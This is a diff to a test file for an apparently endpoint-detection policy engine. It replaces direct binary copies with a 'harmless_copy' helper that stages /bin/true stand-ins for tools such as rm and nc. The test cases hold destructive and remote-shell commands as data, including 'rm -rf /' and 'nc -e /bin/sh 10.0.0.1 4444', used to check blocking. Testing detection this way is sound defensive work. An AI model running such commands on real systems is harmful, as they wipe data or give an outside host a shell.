@@ -24,6 +24,7 @@ import edrfleet.policy.compile as compile_mod
 from edrfleet.policy import compile_policy, load_policy_text, simulate
 from edrfleet.policy.bundle import dump_bundle
 from edrfleet.policy.limits import EDR_CAND_MAX, MAX_CANDIDATES
+from tests.kernel.conftest import harmless_copy
 from tests.unit.templates.test_default_policy import render
 
 KILLED = -9
@@ -85,7 +86,7 @@ def test_a_dropped_group_with_a_block_rule_blocks_counted_and_simulate_agrees(
     monkeypatch.setattr(compile_mod, "MAX_CANDIDATES", 4 * MAX_CANDIDATES)
     bundle = compile_policy(load_policy_text(text, "pair.yaml"))
     monkeypatch.undo()
-    shutil.copy2("/bin/dash", bindir / "fcdash")
+    harmless_copy(bindir / "fcdash", "/bin/dash")
     sh = link(bindir, "fcsh", "fcdash")
     agent = start_agent(dump_bundle(bundle))
 
@@ -112,12 +113,12 @@ def test_the_default_policy_judges_busybox_links_as_the_real_tools(
         start_agent, cgroup, bindir, canary_dir):
     text = render(edrfleet_scope_cgroups=[cgroup.name])
     bundle = compile_policy(load_policy_text(text, "default.yaml"))
-    shutil.copy2("/bin/true", bindir / "busybox")  # the stand-in: harmless whatever runs
+    harmless_copy(bindir / "busybox")  # the stand-in: harmless whatever runs
     real = bindir / "real"
     real.mkdir()
     for name in ("rm", "nc"):
         link(bindir, name, "busybox")
-        shutil.copy2("/bin/true", real / name)
+        harmless_copy(real / name)
     start_agent(text)
     cases = [["rm", "-rf", str(canary_dir)], ["rm", "-rf", "/"], ["rm", "-f", "/tmp/x"],
              ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], ["nc", "-l", "4444"]]
